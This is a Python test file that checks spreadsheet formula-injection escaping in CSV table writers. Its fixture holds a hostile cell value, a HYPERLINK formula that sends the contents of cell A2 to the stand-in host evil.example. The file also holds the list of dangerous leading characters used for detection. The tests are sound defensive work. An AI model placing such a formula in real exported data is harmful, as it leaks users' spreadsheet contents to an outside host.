"""Texts of people and devices in files: no formula for a spreadsheet, in whichever command writes the table."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ops.analysis.challenge import files as challenge_files
from ops.analysis.compare import tables as compare_tables
from ops.runtime.safe_text import safe_cell


@given(st.text())
def test_a_cell_is_safe_or_unchanged(text: str) -> None:
    cell = safe_cell(text)
    assert cell in (text, "'" + text)
    assert not cell.lstrip(" \u00a0").startswith(("=", "+", "-", "@", "\t", "\r"))
    assert safe_cell(-3.5) == -3.5


@pytest.mark.parametrize("write", [challenge_files._write_csv, compare_tables._write], ids=["challenge", "compare"])
def test_no_text_of_a_table_of_the_analysis_is_a_formula(
    write: Callable[[Path, pd.DataFrame], None], tmp_path: Path
) -> None:
    """Names of layouts and sensors come from a vendor's file."""
    formula = '=HYPERLINK("http://evil.example/?"&A2,"open")'
    path = tmp_path / "table.csv"
    write(path, pd.DataFrame({"layout": [formula, "basic"], "segment": [-1, 2], "pd": [-0.25, None]}))
    found = pd.read_csv(path)
    assert found["layout"].tolist() == ["'" + formula, "basic"]
    assert found["segment"].tolist() == [-1, 2]
    assert found["pd"].iloc[0] == -0.25
